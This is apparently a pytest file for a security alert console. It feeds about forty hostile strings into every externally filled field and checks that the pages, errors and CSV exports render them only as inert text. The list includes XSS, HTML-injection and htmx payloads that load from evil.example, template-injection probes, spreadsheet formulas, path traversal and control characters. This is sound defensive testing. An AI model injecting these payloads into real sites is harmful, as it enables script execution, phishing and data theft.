"""Texts that an outsider chose, in every field an outsider fills: pages show them, no more."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from urllib.parse import quote

import pytest

from infra.delta.catalog import table
from infra.streaming.lake import Lake
from tests.alerts.lifecycle.test_alert_fold import finding
from tests.api.desk import Desk
from tests.api.story import insert
from tests.console.conftest import Watched, serve
from tests.console.places import alert_ids
from tests.console.story import EVENTS, MINUTE, event, holder, prepare, record, segment

pytestmark = pytest.mark.full

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\"><script src=https://evil.example/x.js></script>",
    "'><iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=https://evil.example/o>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>click</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>*{background:url(https://evil.example/s)}</style>",
    "<div style=position:fixed;inset:0;background:red>over all</div>",
    "<button hx-get=https://evil.example/h hx-trigger=load>x</button>",
    "<div hx-on:load=alert(1) data-hx-get=/logout>x</div>",
    "<dialog open data-now>fake</dialog>",
    "<div id=notices hx-swap-oob=true>gone</div>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "{{ config.__class__.__init__.__globals__ }}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' autofocus onfocus=alert(1) '",
    "`${alert(1)}`",
    "--><!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
    "\u202egnp.exe \u2066hidden\u2069 \u200bzero\u200b",
    "\x1b[2J\x1b[31mred\x07\x00end\r\nSet-Cookie: a=b",
    "p\u0430ypal \uff1cscript\uff1e admin\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\ud7ff\ufdd0\ue000 \u2028line\u2029para",
    "A" * 4000,
    "=HYPERLINK(\"https://evil.example\",\"x\") ../../etc/passwd %00 %2e%2e",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile_desk(fresh_lake: Callable[[], Lake]) -> Desk:
    """The shift, with each text in each field that somebody outside fills."""
    lake = fresh_lake()
    rows = [
        event(f"evil-{n}", (n + 1) * MINUTE, message=text, user_name=text, host_name=text,
              src_ip="10.0.0.66", query={"hostname": text, "type": text}, status_detail=text,
              app_name=text, unmapped=text, process={"name": text, "cmd_line": text})
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    rows += [
        event(f"dead-{n}", (n + 1) * MINUTE, source="sshd", dead_letter_reason=text)
        for n, text in enumerate(HOSTILE)
    ]
    desk = prepare(lake, (*EVENTS, *rows))
    raw = [record(row, text.encode("utf-8", "surrogatepass")) for row, text in
           zip(rows, [*HOSTILE, *HOSTILE], strict=True)]  # fmt: skip
    insert(lake, table("bronze.record"), raw)
    insert(lake, table("silver.dhcp_segment"), [
        segment(n + 10, n * MINUTE, (n + 1) * MINUTE, f"02:00:00:00:01:{n:02x}", text,
                ip="10.0.0.66")
        for n, text in enumerate(HOSTILE)
    ])  # fmt: skip
    desk.batch(*(
        finding(n * 60.0, holder(f"02:00:00:00:01:{n:02x}", text, ip="10.0.0.66"),
                uid=f"evil-{n}:0", ip="10.0.0.66", user_name=text, host_name=text, snippet=text,
                fields={"user.name": text, text[:40]: text}, rule_title=f"Evil {n}",
                rule_id=f"evil-{n}", target=f"evil-{n}", feeds=[])
        for n, text in enumerate(HOSTILE)
    ))  # fmt: skip
    desk.batch(*(
        finding(n * 60.0, {"ip": None, "status": "unknown"}, uid=f"user-{n}:0", ip=None,
                user_name=text, host_name=None, snippet=text, rule_title=f"User {n}",
                rule_id=f"user-{n}", target=f"user-{n}", feeds=[])
        for n, text in enumerate(HOSTILE)
    ))  # fmt: skip
    return desk


@pytest.fixture(scope="module")
def hostile_site(hostile_desk):
    yield from serve(hostile_desk.app)


LAYOUT = """() => ({
  wide: document.documentElement.scrollWidth - innerWidth,
  widest: [...document.querySelectorAll("main *")]
    .filter((e) => e.getBoundingClientRect().right > innerWidth && !e.closest(".table-wrap"))
    .slice(0, 4).map((e) => e.outerHTML.slice(0, 120)),
  side: document.querySelector(".side")?.getBoundingClientRect().width ?? 0,
  scripts: [...document.scripts].filter((s) => !s.src.startsWith(location.origin)).length,
  foreign: document.querySelectorAll("iframe, object, embed, base, form[action^=http]").length,
  odd: /[\\u202a-\\u202e\\u2066-\\u2069\\u200b\\0-\\x08\\x1b]/.test(document.body.innerText),
})"""


def check(watched: Watched, path: str, rest: bool = True) -> None:
    """Open a page, and see that nothing but text came of the texts."""
    page = watched.go(path, rest)
    layout = page.evaluate(LAYOUT)
    assert layout["wide"] <= 0, f"{path}: {layout['wide']} wider: {layout['widest']}"
    assert layout["side"] == pytest.approx(208, abs=1), path
    assert layout["scripts"] == layout["foreign"] == 0, path
    assert not layout["odd"], f"{path}: characters that steer or hide"
    assert watched.violations() == [], path
    assert watched.dialogs == [], path
    assert watched.outside == [], path
    assert watched.errors == [], path
    assert page.url.startswith(watched.site), path


def test_pages_show_hostile_texts_and_do_nothing_else(browse, hostile_desk, hostile_site):
    watched = browse(where=hostile_site)
    since = "since=2025-03-01T11:00:00Z&until=2025-03-01T14:00:00Z"
    for path in (
        "/",
        "/alerts",
        "/alerts?group=entity",
        "/alerts?group=rule",
        f"/search?{since}",
        f"/search?{since}&cols=time,user_name,host_name,message,query,process,command",
        f"/sources/dead?{since.partition('&')[0]}",
        "/sources",
        "/entity/ip/10.0.0.66",
        "/entity/mac/02:00:00:00:01:00",
        "/search?sql=SELECT+message,+user_name,+host_name+FROM+silver.events",
    ):
        check(watched, path)


@pytest.mark.parametrize("part", range(2))
def test_each_alert_event_and_name_with_a_hostile_text_is_only_text(
    browse, hostile_desk, hostile_site, part
):
    watched = browse(where=hostile_site)
    alerts = alert_ids(hostile_desk)
    for number in range(part, len(HOSTILE), 2):
        text = HOSTILE[number]
        check(watched, f"/alerts/{alerts[f'Evil {number}']}", rest=False)
        time = 1 + number
        check(watched, f"/events/evil-{number}:0?time=2025-03-01T12:{time:02d}:00Z", rest=False)
        if 0 < len(text) <= 200 and "\x00" not in text:
            check(watched, f"/entity/user/{quote(text, safe='')}?since=2025-03-01", rest=False)
            check(watched, f"/alerts?q={quote(text, safe='')}", rest=False)


def test_an_error_that_repeats_what_was_asked_is_text_too(browse):
    watched = browse()
    for text in HOSTILE[:8]:
        check(watched, f"/search?f={quote(text, safe='')}", rest=False)
        check(watched, f"/alerts?since={quote(text, safe='')}", rest=False)
        check(watched, f"/alerts/{quote(text.replace('/', '_'), safe='')}", rest=False)


def test_a_csv_of_alerts_runs_nothing_in_a_spreadsheet(browse, hostile_site):
    watched = browse(where=hostile_site)
    answer = watched.page.request.get(f"{hostile_site}/alerts.csv?q=HYPERLINK")
    for line in answer.text().splitlines()[1:]:
        assert ",=" not in line
        assert not line.startswith("=")


assert len(HOSTILE) == 40
assert timedelta(minutes=len(HOSTILE)) < timedelta(hours=1)
